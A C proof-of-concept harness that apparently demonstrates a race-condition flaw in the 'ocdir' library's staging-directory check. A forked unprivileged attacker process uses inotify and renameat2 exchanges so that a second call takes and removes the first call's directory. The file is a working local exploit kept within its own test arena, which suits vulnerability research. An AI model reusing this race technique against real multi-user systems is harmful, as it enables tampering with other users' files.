/* SPDX-License-Identifier: MIT */
/*
 * same_tick.c - the staging proof (born_since against a coarse-clock t0,
 * stage_is_ours) accepts any empty 0700 directory of the caller's born in
 * the same clock tick: e.g. the directory the caller's previous call just
 * created and returned. The second call then makes its directory inside
 * the first call's result, publishes it, and rmdirs the first call's
 * result as "its" staging directory; the name of the first result now
 * holds the second call's real (empty) staging directory.
 *
 * Victim root (umask 022), shared arena 0777. Per round:
 *   fd1 = ocdir_openat2(arena, "t1", mode 0700)           (created)
 *   fd2 = ocdir_openat2_setup(arena, "t2", mode 0700, noop)
 * det  : a mkdirat wrapper exchanges the second call's first staging
 *        directory with "t1" right after its mkdirat (the race won).
 * live : attacker uid 65534 watches the arena with inotify and exchanges
 *        the first new ".ocdir-stage.*" after "t1" appears with "t1".
 * Hit: call 2 succeeded, made t2 inside t1 (inotify IN_CREATE on t1: it
 * took t1 for its staging directory) and t1's inode (which fd1 holds) was
 * unlinked (fstat(fd1).st_nlink == 0).
 *
 *   same_tick BASE ROUNDS det|live
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include "ocdir.h"

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static int arm;			/* det: exchange the next staging mkdirat */
static int arenafd = -1;
int __real_mkdirat(int dirfd, const char *path, mode_t mode);
int __wrap_mkdirat(int dirfd, const char *path, mode_t mode)
{
	int r = __real_mkdirat(dirfd, path, mode);
	if (r == 0 && arm && !strncmp(path, ".ocdir-stage.", 13)) {
		arm = 0;
		syscall(SYS_renameat2, dirfd, path, arenafd, "t1", RENAME_EXCHANGE);
	}
	return r;
}

static int noop(int fd, const char *p, unsigned f, void *a)
{
	(void)fd; (void)p; (void)f; (void)a;
	return 0;
}

int main(int argc, char **argv)
{
	const char *base = argc > 1 ? argv[1] : "/dev/shm";
	long rounds = argc > 2 ? atol(argv[2]) : 1000, i;
	int live = argc > 3 && !strcmp(argv[3], "live");
	long hits = 0, c2fail = 0, c2ok = 0, xch = 0;
	char arena[256], cmd[600];
	volatile int *sh = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);

	umask(022);
	for (i = 0; i < rounds; i++) {
		snprintf(arena, sizeof arena, "%s/atkD.%d.%ld", base, getpid(), i);
		mkdir(arena, 0777);
		chmod(arena, 0777);
		arenafd = open(arena, O_PATH | O_DIRECTORY);
		pid_t a = 0;
		sh[0] = sh[1] = sh[2] = 0;
		if (live) {
			a = fork();
			if (!a) {
				(void)!setresgid(65534, 65534, 65534);
				(void)!setresuid(65534, 65534, 65534);
				int in = inotify_init1(0);
				inotify_add_watch(in, arena, IN_CREATE | IN_MOVED_TO);
				int seen_t1 = 0;
				char buf[4096];
				sh[1] = 1;
				while (!sh[0]) {
					ssize_t n = read(in, buf, sizeof buf);
					for (char *q = buf; n > 0 && q < buf + n;) {
						struct inotify_event *ev = (void *)q;
						if (ev->len && !strcmp(ev->name, "t1"))
							seen_t1 = 1;
						else if (seen_t1 && ev->len && (ev->mask & IN_CREATE) &&
							 !strncmp(ev->name, ".ocdir-stage.", 13)) {
							if (syscall(SYS_renameat2, arenafd, ev->name, arenafd, "t1",
								    RENAME_EXCHANGE) == 0)
								sh[2]++;
							seen_t1 = 0;	/* once */
						}
						q += sizeof(*ev) + ev->len;
					}
				}
				_exit(0);
			}
			while (!sh[1]) ;
		}
		struct ocdir_how how = { .flags = O_RDONLY, .mode = 0700 };
		int fd1 = ocdir_openat2(arenafd, "t1", &how, sizeof how, NULL);
		/* taken as staging: t2 is made in it (an rmdir by name that loses a
		 * race to an exchange removes t1 too; whoever can write the arena
		 * could do that, so that alone is no hit) */
		int in = inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
		char t1path[300];
		snprintf(t1path, sizeof t1path, "%s/t1", arena);
		if (in >= 0)
			inotify_add_watch(in, t1path, IN_CREATE);
		arm = !live;
		int fd2 = ocdir_openat2_setup(arenafd, "t2", &how, sizeof how, noop, NULL, NULL);
		arm = 0;
		if (live) {
			sh[0] = 1;
			/* wake the reader */
			close(open(arena, O_PATH));
			mkdir(cmd, 0); /* no-op */
			char w[300]; snprintf(w, sizeof w, "%s/wake", arena); mkdir(w, 0700); rmdir(w);
			waitpid(a, NULL, 0);
			xch += sh[2];
		}
		struct stat s1;
		if (fd2 < 0) c2fail++; else c2ok++;
		char evbuf[4096];
		int taken = in >= 0 && read(in, evbuf, sizeof evbuf) > 0;

		if (in >= 0)
			close(in);
		if (fd1 >= 0 && fstat(fd1, &s1) == 0 && s1.st_nlink == 0 && fd2 >= 0 && taken) {
			hits++;
			if (hits <= 2) {
				fprintf(stderr, "HIT round %ld: t1 (fd1, ino %lu) was removed by call 2; arena now:\n",
					i, (unsigned long)s1.st_ino);
				snprintf(cmd, sizeof cmd, "find %s -printf '%%M %%u %%i %%p\\n' >&2", arena);
				(void)!system(cmd);
			}
		}
		if (fd1 >= 0) close(fd1);
		if (fd2 >= 0) close(fd2);
		close(arenafd);
		snprintf(cmd, sizeof cmd, "rm -rf '%s'", arena);
		(void)!system(cmd);
	}
	printf("RESULT same_tick base=%s mode=%s rounds=%ld exchanges=%ld call2_ok=%ld call2_fail=%ld "
	       "HITS_first_result_taken_as_staging_and_removed=%ld\n",
	       base, live ? "live" : "det", rounds, live ? xch : rounds, c2ok, c2fail, hits);
	return 0;
}
